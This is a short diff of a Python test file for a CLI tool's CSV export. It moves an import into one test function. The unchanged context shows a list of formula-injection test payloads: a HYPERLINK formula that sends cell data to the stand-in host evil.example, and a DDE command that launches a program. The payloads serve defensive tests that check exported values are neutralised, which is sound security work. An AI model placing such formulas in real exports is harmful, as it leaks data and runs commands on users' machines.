@@ -15,8 +15,6 @@ from typing import Any
 import pytest
 from conftest import GOOD_EVENT, GOOD_ORG
 
-from wksbm_cli.render.csv_out import csv_text, neutralise
-
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
     "+cmd|' /C calc'!A0",
@@ -111,6 +109,8 @@ def test_export_raw_csv_keeps_the_exact_text(
 
 
 def test_ordinary_values_and_numbers_are_untouched() -> None:
+    from wksbm_cli.render.csv_out import csv_text, neutralise
+
     text = csv_text(
         ["id", "nama", "jumlah", "tanggal"],
         [["wksbm-maguwoharjo", "WKSBM Kalurahan Maguwoharjo", -3, "2025-06-17"]],
